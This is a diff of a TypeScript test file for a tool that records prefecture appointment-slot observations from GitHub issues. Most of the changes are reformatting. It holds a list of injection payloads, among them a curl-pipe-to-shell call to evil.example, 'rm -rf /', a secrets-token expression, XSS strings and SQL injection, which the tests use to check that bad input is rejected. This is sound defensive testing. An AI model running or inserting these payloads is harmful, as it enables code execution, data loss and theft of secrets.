@@ -12,8 +12,22 @@ const REGISTRY = `department,slug,prefecture,procedure,system,url
 `;
 const NOW = new Date('2026-05-18T10:00:00Z');
 const block = (fields: Partial<ObservationBlock> = {}): string =>
-  formatBlock({ version: '1', demarche: '3771', observed_at: formatParisTimestamp(new Date(NOW.getTime() - 20 * 60_000)), outcome: 'slots', first_date: '2026-06-02', second_date: '', last_publication: '', next_publication: '2026-05-25T11:58:00+02:00', ...fields });
-const event = (body: string | null, number = 41, homepage: string | null = 'https://guichets.example/base/'): IssueEvent => ({
+  formatBlock({
+    version: '1',
+    demarche: '3771',
+    observed_at: formatParisTimestamp(new Date(NOW.getTime() - 20 * 60_000)),
+    outcome: 'slots',
+    first_date: '2026-06-02',
+    second_date: '',
+    last_publication: '',
+    next_publication: '2026-05-25T11:58:00+02:00',
+    ...fields,
+  });
+const event = (
+  body: string | null,
+  number = 41,
+  homepage: string | null = 'https://guichets.example/base/',
+): IssueEvent => ({
   issue: { number, body, created_at: NOW.toISOString(), user: { login: 'someone' }, labels: [{ name: 'observation' }] },
   repository: { homepage },
 });
@@ -29,13 +43,25 @@ afterEach(() => rmSync(dataDir, { recursive: true, force: true }));
 function storedText(): string {
   const directory = path.join(dataDir, 'observations', '54', 'demarche-3771');
   try {
-    return readdirSync(directory).filter((name) => name.endsWith('.csv')).map((name) => readFileSync(path.join(directory, name), 'utf8')).join('');
+    return readdirSync(directory)
+      .filter((name) => name.endsWith('.csv'))
+      .map((name) => readFileSync(path.join(directory, name), 'utf8'))
+      .join('');
   } catch {
     return '';
   }
 }
 
-const INJECTIONS = ['$(curl https://evil.example | sh)', '`rm -rf /`', '${{ secrets.GITHUB_TOKEN }}', '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '[lien](javascript:alert(1))', '"; DROP TABLE x; --', '\u202e\u0000'];
+const INJECTIONS = [
+  '$(curl https://evil.example | sh)',
+  '`rm -rf /`',
+  '${{ secrets.GITHUB_TOKEN }}',
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '[lien](javascript:alert(1))',
+  '"; DROP TABLE x; --',
+  '\u202e\u0000',
+];
 
 describe('issue bodies', () => {
   test('an issue form body gives one row, linked from the answer', async () => {
@@ -62,11 +88,13 @@ describe('issue bodies', () => {
     expect(decision.comment).not.toContain(payload.trim());
   });
 
-  test.each(INJECTIONS.flatMap((payload) => [
-    ['demarche', payload],
-    ['first_date', payload],
-    ['next_publication', payload],
-  ]))('a value %s = %s refuses the block, stores nothing and is not repeated', async (key, payload) => {
+  test.each(
+    INJECTIONS.flatMap((payload) => [
+      ['demarche', payload],
+      ['first_date', payload],
+      ['next_publication', payload],
+    ]),
+  )('a value %s = %s refuses the block, stores nothing and is not repeated', async (key, payload) => {
     const body = block().replace(new RegExp(`^${key}: .*$`, 'm'), `${key}: ${payload}`);
     const decision = await recordIssueObservation(event(body), dataDir, NOW, 0);
     expect(decision.accepted).toBe(false);
@@ -103,7 +131,10 @@ describe('issue bodies', () => {
 
   test('an event without the observation label is ignored', () => {
     const file = path.join(dataDir, 'event.json');
-    writeFileSync(file, JSON.stringify({ ...event(block()), issue: { ...event(block()).issue, labels: [{ name: 'bug' }] } }));
+    writeFileSync(
+      file,
+      JSON.stringify({ ...event(block()), issue: { ...event(block()).issue, labels: [{ name: 'bug' }] } }),
+    );
     expect(readIssueEvent(file)).toBeNull();
     writeFileSync(file, JSON.stringify(event(block())));
     expect(readIssueEvent(file)?.issue.number).toBe(41);
